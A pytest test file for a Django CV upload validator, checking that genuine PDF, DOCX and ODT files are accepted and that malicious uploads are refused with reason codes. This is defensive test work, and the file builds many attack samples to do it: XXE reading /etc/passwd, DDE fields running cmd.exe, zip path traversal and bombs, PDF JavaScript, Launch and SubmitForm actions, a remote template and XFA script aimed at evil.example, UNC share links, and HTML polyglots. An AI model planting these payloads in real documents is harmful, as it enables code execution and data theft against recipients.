"""CV checks: real office files pass, everything else gets a clear reason."""

import base64
import io
import warnings
import zipfile

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from ats import cv_checks
from ats.cv_checks import common, office
from ats.cv_checks import pdf as pdf_checks
from tests.helpers import sample_bytes, upload


def rejection(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        cv_checks.validate_cv(upload(name, content))
    return caught.value


def zip_bytes(entries: dict[str, bytes] | list[tuple[str, bytes]]) -> bytes:
    """An archive of `entries`, in order; a list of pairs may name an entry twice."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Duplicate name", UserWarning)
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in entries.items() if isinstance(entries, dict) else entries:
                archive.writestr(name, content)
    return buffer.getvalue()


def docx_entries(content_types: bytes = office.DOCX_MAIN_PART) -> dict[str, bytes]:
    return {
        "word/document.xml": b"<w:document/>",
        "[Content_Types].xml": b'<Types><Override ContentType="' + content_types + b'"/></Types>',
    }


@pytest.mark.parametrize(
    ("extension", "expected"),
    [("pdf", cv_checks.PDF), ("docx", cv_checks.DOCX), ("odt", cv_checks.ODT)],
)
def test_real_office_files_are_accepted_as_they_are(extension, expected):
    cv = cv_checks.validate_cv(upload(f"CV Åsa Öberg.{extension.upper()}", sample_bytes(extension)))
    assert cv.type == expected
    assert cv.display_name == f"CV Åsa Öberg.{extension.upper()}"
    assert cv.file.tell() == 0  # ready to be stored from the start


@pytest.mark.parametrize(
    ("content_of", "named"), [("pdf", "docx"), ("docx", "pdf"), ("odt", "docx")]
)
def test_extension_must_agree_with_the_content(content_of, named):
    error = rejection(f"cv.{named}", sample_bytes(content_of))
    assert error.code == "extension_mismatch"
    assert f"must end in .{content_of}" in error.message


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("cv.pdf", b"<html><script>alert(1)</script></html>", "not_really"),
        ("cv.pdf", b"", "empty"),
        ("cv.pdf", sample_bytes("pdf")[:5000], "damaged"),  # truncated upload
        ("cv.docx", zip_bytes({"notes.txt": b"hello"}), "type"),  # a plain zip
        (
            "cv.docx",
            zip_bytes(docx_entries(b"application/vnd.ms-word.document.macroEnabled.main+xml")),
            "active_content",
        ),
        ("cv.docx", zip_bytes({**docx_entries(), "../../evil.sh": b"#!/bin/sh"}), "unsafe_archive"),
        ("cv.docx", zip_bytes({**docx_entries(), "/etc/cron.d/x": b"x"}), "unsafe_archive"),
        ("cv.docx", sample_bytes("docx")[:3000], "type"),  # truncated archive
        (  # a spreadsheet is not a CV
            "cv.odt",
            zip_bytes(
                {
                    "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                    "content.xml": b"<office:document-content/>",
                }
            ),
            "type",
        ),
        ("cv.exe", b"MZ\x90\x00\x03", "type"),
        ("cv.pdf", b"Astrid Lindqvist, lagerchef", "not_really"),  # a text file renamed
        ("cv.docx", b"MZ\x90\x00\x03", "not_really"),
    ],
)
def test_bad_files_are_rejected_with_a_reason(name, content, code):
    assert rejection(name, content).code == code


def test_archive_that_unpacks_beyond_the_budget_is_a_bomb():
    huge = b"\0" * (office.ZIP_MAX_UNCOMPRESSED_BYTES + 1)
    bomb = zip_bytes({**docx_entries(), "word/media/image1.png": huge})
    assert len(bomb) < 1024 * 1024  # small on the wire
    assert rejection("cv.docx", bomb).code == "archive_bomb"


def test_archive_with_too_many_entries_is_rejected():
    entries = {f"word/part{n}.xml": b"x" for n in range(office.ZIP_MAX_ENTRIES)}
    assert rejection("cv.docx", zip_bytes({**docx_entries(), **entries})).code == "archive_bomb"


def test_size_limit_is_inclusive(settings):
    content = sample_bytes("pdf")
    settings.ATS_CV_MAX_BYTES = len(content)
    assert cv_checks.validate_cv(upload("cv.pdf", content)).type == cv_checks.PDF
    settings.ATS_CV_MAX_BYTES = len(content) - 1
    error = rejection("cv.pdf", content)
    assert error.code == "too_large"
    assert "the largest accepted is" in error.message


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\astrid\\CV.pdf", "CV.pdf"),
        ("cv\u202efdp.exe", "cvfdp.exe"),  # right-to-left override removed
        ("cv\x00.pdf", "cv.pdf"),
        ("  many   spaces .pdf", "many spaces .pdf"),
    ],
)
def test_display_name_is_cleaned(raw, shown):
    assert cv_checks.clean_display_name(raw) == shown


def test_long_display_name_keeps_its_extension():
    shown = cv_checks.clean_display_name("a" * 300 + ".docx")
    assert len(shown) == cv_checks.DISPLAY_NAME_MAX
    assert shown.endswith("a.docx")


# Active content (ASVS 5.2, 5.4.3): each made from the real samples, as an attacker
# would, by adding one thing to a document Word or Writer saved.
def sample_with(
    extension: str,
    *,
    replace: dict[str, bytes] | None = None,
    before: dict[str, bytes] | None = None,
    **added: bytes,
):
    """The sample with parts replaced or added; `before` goes ahead of the sample's own
    entries, even under a name the sample already has."""
    source = zipfile.ZipFile(io.BytesIO(sample_bytes(extension)))
    entries = {entry.filename: source.read(entry) for entry in source.infolist()}
    entries.update(replace or {})
    entries.update({name.replace("__", "/"): content for name, content in added.items()})
    return zip_bytes([*(before or {}).items(), *entries.items()])


def part_with(extension: str, part: str, extra: bytes, *, ahead_of: bytes) -> dict[str, bytes]:
    """One of the sample's parts with `extra` written just ahead of `ahead_of`."""
    original = zipfile.ZipFile(io.BytesIO(sample_bytes(extension))).read(part)
    assert ahead_of in original
    return {part: original.replace(ahead_of, extra + ahead_of, 1)}


def content_types_with(extra: bytes) -> dict[str, bytes]:
    return part_with("docx", "[Content_Types].xml", extra, ahead_of=b"</Types>")


def docx_body_with(xml: bytes) -> dict[str, bytes]:
    return part_with("docx", "word/document.xml", xml, ahead_of=b"<w:sectPr>")


def docx_relationships_with(xml: bytes) -> dict[str, bytes]:
    rels = "word/_rels/document.xml.rels"
    return part_with("docx", rels, xml, ahead_of=b"</Relationships>")


def odt_body_with(xml: bytes) -> dict[str, bytes]:
    return part_with("odt", "content.xml", xml, ahead_of=b"</office:text>")


MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
DOCM_BEHIND_A_COMMENT = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org'
    b'/package/2006/content-types"><!-- ' + office.DOCX_MAIN_PART + b" -->"
    b'<Override PartName="/word/document.xml" ContentType="' + MACRO_MAIN + b'"/></Types>'
}
SETTINGS_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
    b' TargetMode="External"/></Relationships>'
)
FILE_IMAGE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
    b'.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats'
    b'.org/officeDocument/2006/relationships/image" Target="file://///attacker/share/a.png"/>'
    b"</Relationships>"
)
XXE_BODY = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
ODT_ON_LOAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names'
    b':tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script'
    b':1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>'
    b'<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href='
    b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    b"</office:event-listeners></office:scripts><office:body/></office:document-content>"
)


def pdf(value):
    """Python values as PDF objects: "/Name", "text", numbers, lists and dictionaries."""
    if isinstance(value, PdfObject):
        return value
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): pdf(item) for key, item in value.items()})
    if isinstance(value, list):
        return ArrayObject(pdf(item) for item in value)
    if isinstance(value, int):
        return NumberObject(value)
    return NameObject(value) if value.startswith("/") else TextStringObject(value)


def pdf_with(*changes) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(sample_bytes("pdf")))
    for change in changes:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def compressed(writer, data: bytes, entries: dict | None = None) -> IndirectObject:
    """A Flate-compressed stream of `data`: nothing reading the file's bytes sees `data`."""
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update(pdf(entries or {}))
    return writer._add_object(stream.flate_encode())


def open_action(kind: str, *, indirect: bool = False, **entries):
    """The document does `kind` as it opens; with `indirect`, the action's name is an
    object of its own (`/S 5 0 R`)."""

    def change(writer):
        name = NameObject(kind)
        action = {"/S": writer._add_object(name) if indirect else name}
        if kind == "/JavaScript":
            action["/JS"] = "app.alert(1)"
        elif not entries:
            action["/F"] = "cmd.exe"
        action.update({f"/{key}": value for key, value in entries.items()})
        writer.root_object[NameObject("/OpenAction")] = pdf(action)

    return change


def link(action: dict):
    """A link on the first page that does `action` when clicked."""

    def change(writer):
        writer.add_annotation(
            0, pdf({"/Subtype": "/Link", "/Rect": [56, 56, 200, 70], "/A": action})
        )

    return change


def document_script(writer) -> None:
    """A script in the document's name tree, run by a viewer when it opens."""
    script = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
    writer.root_object[NameObject("/Names")] = pdf({"/JavaScript": {"/Names": ["start", script]}})


def attachment(name: str, content: bytes, entries: dict | None = None):
    """A file attached to the document (its /EmbeddedFiles), compressed."""

    def change(writer):
        file = compressed(writer, content, {"/Type": "/EmbeddedFile", **(entries or {})})
        spec = {"/Type": "/Filespec", "/F": name, "/UF": name, "/EF": {"/F": file}}
        files = {"/Names": [name, writer._add_object(pdf(spec))]}
        writer.root_object[NameObject("/Names")] = pdf({"/EmbeddedFiles": files})

    return change


XFA_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/'
    b'xfa-template/3.3/"><subform name="cv"><event activity="initialize"><script contentType='
    b'"application/x-javascript">app.launchURL("https://evil.example/")</script></event>'
    b"</subform></template></xdp:xdp>"
)


def xfa_form(*packets: bytes):
    """An XFA form (XML in /AcroForm /XFA, which Acrobat runs), compressed as usual."""

    def change(writer):
        xfa = []
        for number, packet in enumerate(packets):
            xfa += [f"packet{number}", compressed(writer, packet)]
        form = {"/Fields": [], "/XFA": xfa}
        writer.root_object[NameObject("/AcroForm")] = pdf(form)

    return change


def rich_media(writer) -> None:
    """A RichMedia annotation: a Flash or video player with content of its own."""
    movie = compressed(writer, b"FWS\x0a" + b"\0" * 64, {"/Type": "/EmbeddedFile"})
    asset = writer._add_object(pdf({"/Type": "/Filespec", "/F": "clip.swf", "/EF": {"/F": movie}}))
    content = {"/Assets": {"/Names": ["clip.swf", asset]}, "/Configurations": []}
    annotation = {
        "/Subtype": "/RichMedia",
        "/Rect": [56, 56, 200, 200],
        "/RichMediaContent": content,
    }
    writer.add_annotation(0, pdf(annotation))


def pdf_html_polyglot() -> bytes:
    original = sample_bytes("pdf")
    header, rest = original.split(b"\n", 1)
    return header + b"\n%<html><body><script>alert(document.domain)</script>\n" + rest


def pdf_html_after_the_sniff() -> bytes:
    """HTML in an uncompressed stream, after the first bytes a browser sniffs."""

    def notes(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"<html><body><script>alert(document.domain)</script></body></html>")
        writer.root_object[NameObject("/Notes")] = writer._add_object(stream)

    content = pdf_with(notes)
    assert content.index(b"<script") > common.HTML_SNIFF_BYTES
    return content


# Word and Writer documents, each from the sample with one thing added.
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationship(kind: str, target: str, *, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    kind = kind if "://" in kind else RELATIONSHIP + kind
    return f'<Relationship Id="rId90" Type="{kind}" Target="{target}"{mode}/>'.encode()


def docx_field(instruction: str) -> bytes:
    """A field as Word writes it (begin, instruction, separate, shown text, end), its
    instruction split over two runs as Word may split it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in (instruction[:4], instruction[4:])
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + "<w:r><w:fldChar "
        'w:fldCharType="separate"/></w:r><w:r><w:t>Portfolio</w:t></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r></w:p>'
    ).encode()


def docx_simple_field(instruction: str) -> bytes:
    instruction = instruction.replace('"', "&quot;")
    return (
        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    ).encode()


DDE_CALC = r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '
DOCM_CONTENT_TYPES = content_types_with(
    b'<Override PartName="/word/foo.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)["[Content_Types].xml"].replace(office.DOCX_MAIN_PART, MACRO_MAIN)
OLE_OBJECT = docx_body_with(
    b'<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" '
    b'DrawAspect="Icon" ObjectID="_1" r:id="rId90"/></w:object></w:r></w:p>'
)
OLE_PART = {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504}
OLE_PACKAGE = {
    **content_types_with(
        b'<Default Extension="bin" '
        b'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    ),
    **docx_relationships_with(relationship("oleObject", "embeddings/oleObject1.bin")),
    **OLE_OBJECT,
    **OLE_PART,
}
ALT_CHUNK = docx_body_with(b'<w:altChunk r:id="rId90"/>')
ALT_CHUNK_HTML = {
    **content_types_with(b'<Default Extension="html" ContentType="text/html"/>'),
    **docx_relationships_with(relationship("aFChunk", "page.html")),
    **ALT_CHUNK,
    "word/page.html": b"<html><body><script>alert(document.domain)</script></body></html>",
}
UNC_HYPERLINK = {
    **docx_relationships_with(
        relationship("hyperlink", r"\\127.0.0.1\share\portfolio.docx", external=True)
    ),
    **docx_body_with(
        b'<w:p><w:hyperlink r:id="rId90"><w:r><w:t>Portfolio</w:t></w:r></w:hyperlink></w:p>'
    ),
}


def odt_frame(element: str) -> bytes:
    return (
        '<text:p><draw:frame draw:name="x" text:anchor-type="as-char" svg:width="2cm" '
        f'svg:height="2cm">{element}</draw:frame></text:p>'
    ).encode()


LINKED = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'
ODT_DDE_FIELD = (
    b'<text:dde-connection-decls><text:dde-connection-decl office:name="calc" office:dde-'
    b'application="cmd" office:dde-topic="/c calc.exe" office:dde-item="x" office:automatic-'
    b'update="true"/></text:dde-connection-decls><text:p><text:dde-connection text:connection-'
    b'name="calc">x</text:dde-connection></text:p>'
)
ODT_DDE_SECTION = (
    b'<text:section text:name="Bilaga"><office:dde-source office:dde-application="cmd" '
    b'office:dde-topic="/c calc.exe" office:dde-item="x" office:automatic-update="true"/>'
    b"</text:section>"
)


ACTIVE_CONTENT = {
    "macro type behind a docx override": (
        "cv.docx",
        sample_with(
            "docx",
            replace=content_types_with(
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
            word__vbaProject_bin=b"\xd0\xcf\x11\xe0",
        ),
        "active_content",
    ),
    "docm behind a comment": ("cv.docx", sample_with("docx", replace=DOCM_BEHIND_A_COMMENT), None),
    "vbaProject.bin in a docx": (
        "cv.docx",
        sample_with("docx", replace={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "active_content",
    ),
    "remote template": (
        "cv.docx",
        sample_with("docx", replace={"word/_rels/settings.xml.rels": SETTINGS_RELS}),
        "active_content",
    ),
    "file:// image": (
        "cv.docx",
        sample_with("docx", replace={"word/_rels/document.xml.rels": FILE_IMAGE_RELS}),
        "active_content",
    ),
    "odt basic macro run on load": (
        "cv.odt",
        sample_with(
            "odt",
            replace={"content.xml": ODT_ON_LOAD, "Basic/Standard/Module1.xml": b"<m/>"},
        ),
        "active_content",
    ),
    "dtd in utf-16": (
        "cv.docx",
        sample_with(
            "docx",
            replace={
                "word/document.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + XXE_BODY).encode(
                    "utf-16"
                )
            },
        ),
        "xml_entities",
    ),
    "dtd in a part named .XML": (
        "cv.docx",
        sample_with("docx", replace={"word/extra.XML": XXE_BODY.encode()}),
        "xml_entities",
    ),
    "pdf and html polyglot": ("cv.pdf", pdf_html_polyglot(), "active_content"),
    "pdf with javascript on open": (
        "cv.pdf",
        pdf_with(open_action("/JavaScript")),
        "active_content",
    ),
    "pdf with a document-level script": (
        "cv.pdf",
        pdf_with(document_script),
        "active_content",
    ),
    "pdf that launches a program": ("cv.pdf", pdf_with(open_action("/Launch")), "active_content"),
    # Issue 30, point 5: what the second assessment found accepted.
    "pdf with a compressed xfa script": ("cv.pdf", pdf_with(xfa_form(XFA_SCRIPT)), None),
    "pdf launch named indirectly": (
        "cv.pdf",
        pdf_with(open_action("/Launch", indirect=True)),
        None,
    ),
    "pdf form submit named indirectly": (
        "cv.pdf",
        pdf_with(open_action("/SubmitForm", indirect=True, F="https://evil.example/collect")),
        None,
    ),
    "pdf that opens its attachment": (
        "cv.pdf",
        pdf_with(
            attachment("notes.txt", b"Referenser lamnas pa begaran."),
            open_action("/GoToE", T={"/R": "/C", "/N": "notes.txt"}),
        ),
        None,
    ),
    "pdf with a web page attached": (
        "cv.pdf",
        pdf_with(attachment("portfolio.html", b"<p>Portfolio</p>", {"/Subtype": "/text/html"})),
        None,
    ),
    "pdf with a web page attached under another name": (
        "cv.pdf",
        pdf_with(attachment("portfolio.txt", b"<!DOCTYPE html><script>alert(1)</script>")),
        None,
    ),
    "pdf link to a file on a share": (
        "cv.pdf",
        pdf_with(link({"/S": "/GoToR", "/F": r"\\127.0.0.1\share\cv.pdf", "/D": [0, "/Fit"]})),
        None,
    ),
    "pdf link to a local file": (
        "cv.pdf",
        pdf_with(link({"/S": "/URI", "/URI": "file:///etc/passwd"})),
        None,
    ),
    "pdf uri to a share": (
        "cv.pdf",
        pdf_with(link({"/S": "/URI", "/URI": r"\\127.0.0.1\share\cv.pdf"})),
        None,
    ),
    "pdf with rich media": ("cv.pdf", pdf_with(rich_media), None),
    "pdf with html after the first 4 kb": ("cv.pdf", pdf_html_after_the_sniff(), None),
    "docx with a second [Content_Types].xml ahead of the real one": (
        "cv.docx",
        sample_with(
            "docx",
            before={"[Content_Types].xml": DOCM_CONTENT_TYPES},
            replace=docx_relationships_with(
                relationship(
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "foo.bin"
                )
            ),
            word__foo_bin=b"\xd0\xcf\x11\xe0",
        ),
        "unsafe_archive",
    ),
    "docx dde field": (
        "cv.docx",
        sample_with("docx", replace=docx_body_with(docx_field(DDE_CALC))),
        None,
    ),
    "docx dde simple field": (
        "cv.docx",
        sample_with("docx", replace=docx_body_with(docx_simple_field(DDE_CALC))),
        None,
    ),
    "docx remote picture field": (
        "cv.docx",
        sample_with(
            "docx",
            replace=docx_body_with(docx_field(r' INCLUDEPICTURE "http://evil.example/p.png" \d ')),
        ),
        None,
    ),
    "docx text included from a share": (
        "cv.docx",
        sample_with(
            "docx",
            replace=docx_body_with(
                docx_simple_field(r' INCLUDETEXT "\\\\127.0.0.1\\share\\x.docx" ')
            ),
        ),
        None,
    ),
    "docx ole package": ("cv.docx", sample_with("docx", replace=OLE_PACKAGE), None),
    # …and each of its pieces alone, as each is checked on its own
    "docx ole object in the text": ("cv.docx", sample_with("docx", replace=OLE_OBJECT), None),
    "docx ole part": ("cv.docx", sample_with("docx", replace=OLE_PART), None),
    "docx embedded document": (
        "cv.docx",
        sample_with(
            "docx",
            replace=docx_relationships_with(
                relationship("package", "embeddings/Microsoft_Word_Document.docx")
            ),
        ),
        None,
    ),
    "docx html chunk": ("cv.docx", sample_with("docx", replace=ALT_CHUNK_HTML), None),
    "docx html chunk in the text": ("cv.docx", sample_with("docx", replace=ALT_CHUNK), None),
    "docx hyperlink to a share": ("cv.docx", sample_with("docx", replace=UNC_HYPERLINK), None),
    "docx hyperlink field to a share": (
        "cv.docx",
        sample_with(
            "docx",
            replace=docx_body_with(docx_field(r' HYPERLINK "\\\\127.0.0.1\\share\\cv.docx" ')),
        ),
        None,
    ),
    "odt remote picture": (
        "cv.odt",
        sample_with(
            "odt",
            replace=odt_body_with(
                odt_frame(f'<draw:image xlink:href="http://evil.example/p.png" {LINKED}/>')
            ),
        ),
        None,
    ),
    "odt object on a share": (
        "cv.odt",
        sample_with(
            "odt",
            replace=odt_body_with(
                odt_frame(f'<draw:object xlink:href="\\\\127.0.0.1\\share\\chart" {LINKED}/>')
            ),
        ),
        None,
    ),
    "odt section from a share": (
        "cv.odt",
        sample_with(
            "odt",
            replace=odt_body_with(
                b'<text:section text:name="Bilaga"><text:section-source xlink:href="\\\\127.0.0.1'
                b'\\share\\bilaga.odt" xlink:type="simple" xlink:show="embed" text:filter-name='
                b'"writer8"/></text:section>'
            ),
        ),
        None,
    ),
    "odt ole object": (
        "cv.odt",
        sample_with(
            "odt",
            replace=odt_body_with(
                odt_frame(f'<draw:object-ole xlink:href="./Object 1" {LINKED}/>')
            ),
        ),
        None,
    ),
    "odt dde field": ("cv.odt", sample_with("odt", replace=odt_body_with(ODT_DDE_FIELD)), None),
    "odt dde section": ("cv.odt", sample_with("odt", replace=odt_body_with(ODT_DDE_SECTION)), None),
    "odt hyperlink to a share": (
        "cv.odt",
        sample_with(
            "odt",
            replace=odt_body_with(
                b'<text:p><text:a xlink:type="simple" xlink:href="\\\\127.0.0.1\\share\\cv.odt">'
                b"Portfolio</text:a></text:p>"
            ),
        ),
        None,
    ),
}


@pytest.mark.parametrize("case", ACTIVE_CONTENT)
def test_active_content_is_refused(case):
    name, content, code = ACTIVE_CONTENT[case]

    error = rejection(name, content)

    assert error.code == (code or "active_content")
    if error.code == "active_content":
        assert "active content" in error.message


LINKEDIN = "https://www.linkedin.com/in/astrid-lindqvist"
ORDINARY_LINKS = {
    "docx": sample_with(
        "docx",
        replace={
            **docx_relationships_with(relationship("hyperlink", LINKEDIN, external=True)),
            **docx_body_with(
                b'<w:p><w:hyperlink r:id="rId90"><w:r><w:t>LinkedIn</w:t></w:r></w:hyperlink></w:p>'
                + docx_field(f' HYPERLINK "{LINKEDIN}" ')
                + docx_simple_field(r" PAGE \* MERGEFORMAT ")
            ),
        },
    ),
    "odt": sample_with(
        "odt",
        replace={
            **odt_body_with(
                f'<text:p><text:a xlink:type="simple" xlink:href="{LINKEDIN}">LinkedIn</text:a>'
                f"</text:p>".encode()
                + odt_frame(f'<draw:image xlink:href="Pictures/photo.png" {LINKED}/>')
            ),
            "Pictures/photo.png": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
        },
    ),
    "pdf": pdf_with(link({"/S": "/URI", "/URI": LINKEDIN})),
}


@pytest.mark.parametrize("extension", ORDINARY_LINKS)
def test_a_hyperlink_in_a_cv_is_not_active_content(extension):
    """A LinkedIn link (and, in the ODT, a picture kept inside the document) is fine."""
    cv = cv_checks.validate_cv(upload(f"cv.{extension}", ORDINARY_LINKS[extension]))

    assert cv.type.extension == f".{extension}"


def test_a_chart_with_its_workbook_is_not_an_embedded_object():
    """Word keeps a chart's data as a workbook of its own, opened only to edit the chart."""
    chart_rels = relationship("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")
    chart = {
        "word/charts/chart1.xml": b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/'
        b'drawingml/2006/chart"/>',
        "word/charts/_rels/chart1.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats'
        b'.org/package/2006/relationships">' + chart_rels + b"</Relationships>",
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zip_bytes({"xl/workbook.xml": b"<w/>"}),
    }
    content = sample_with("docx", replace=chart)

    assert cv_checks.validate_cv(upload("cv.docx", content)).type == cv_checks.DOCX


@pytest.mark.parametrize("streams", [1, 6])
def test_pdf_streams_that_unpack_beyond_the_budget_are_a_bomb(streams):
    """One stream past the limit for a stream, or several within it but past the budget
    for the whole document."""
    size = pdf_checks.PDF_STREAM_MAX_BYTES + (1 if streams == 1 else 0)
    content = pdf_with(xfa_form(*[b"\0" * size] * streams))

    assert len(content) < 1024 * 1024  # small on the wire
    assert rejection("cv.pdf", content).code == "archive_bomb"


# Page text (BT … Tj ET) compressed by zlib, whose compressed bytes happen to hold "<MeTA":
# noise of the kind any real PDF's compressed streams may hold.
NOISE_IN_COMPRESSED_TEXT = base64.b64decode(
    "eNptVEmOGzEMvOcVegHDVRKBYADb0/MCPyHIIf9/QErdo3bD0UE3FVishfdn+fklJcvzT9GoVHsv3oOa9vL8"
    "XX4xi+Eps8VHef4t2/PH/cCI7yBWwis1jZrYN0idmcezd5AOkEhSZhTLoKgnaMN/gKQuJ4VUimbFPcitTnqf"
    "mFLxcg1KpjAvwZ2k+wQJpn0BdHsH8QC5gFZaaY1MZbLTQwfl5SDwptZrqZYUzN8ghnj2GOClDq5JDpBjte7n"
    "JKxjtgId7DoZ4NYUJPnCzvC4v2H6rgIMrQlIkHFObqCpiaX+U872MaHErkVicJxpGLyGsRJLbtaMejBkhwpn"
    "Gqzj3QD6egfJYawjBR35c5Km0yM+6Om22sjgqyt8TWovteuRB43lRkLWrdRG7mcQtmMIb2t/oHGXVrQzqbUL"
    "aORU38O9t6gmCSPa1ohf0QZJAcTWWo/PDUlrjgbaJMePPT8L0FGiViFXADTkmxpAmIPcbQlCOi0SyYbUPE1l"
    "VEEeQ7+lqdpgpgaCJ1S5XVN6W92Fw1TtlKGlBVPPvOgwnJXPJbtIJySsmMOrNvtg9xGFke+V3jZWQbOjgp3E"
    "HDTW2RYeHYJr4By0WjQR8pex82r5alCwUSJAOAkoxinDyNtOcL0RTglLBxig3q6XblSvLwdhDpJTcVjP3u0h"
    "HTWqSwQud1gWnFXVs0Cj37Zow16ghivihlkIhOtlGbldp/wDhYZNEg=="
)


def test_html_marks_that_are_noise_in_compressed_or_binary_data_are_not_html():
    def noise(writer):
        text = DecodedStreamObject()
        text.set_data(NOISE_IN_COMPRESSED_TEXT)  # stored as it is, already compressed
        text[NameObject("/Filter")] = NameObject("/FlateDecode")
        photo = DecodedStreamObject()
        photo.set_data(b"\xff\xd8\xff\xe0" + b"\x10<svg \x87" * 8 + b"\xff\xd9")
        photo.update(
            pdf(
                {
                    "/Type": "/XObject",
                    "/Subtype": "/Image",
                    "/Width": 1,
                    "/Height": 1,
                    "/ColorSpace": "/DeviceRGB",
                    "/BitsPerComponent": 8,
                    "/Filter": "/DCTDecode",
                }
            )
        )
        notes = [writer._add_object(text), writer._add_object(photo)]
        writer.root_object[NameObject("/Notes")] = ArrayObject(notes)

    content = pdf_with(noise)

    marks = [mark.start() for mark in common.HTML_MARKS.finditer(content)]
    assert len(marks) == 9 and min(marks) > common.HTML_SNIFF_BYTES
    assert cv_checks.validate_cv(upload("cv.pdf", content)).type == cv_checks.PDF
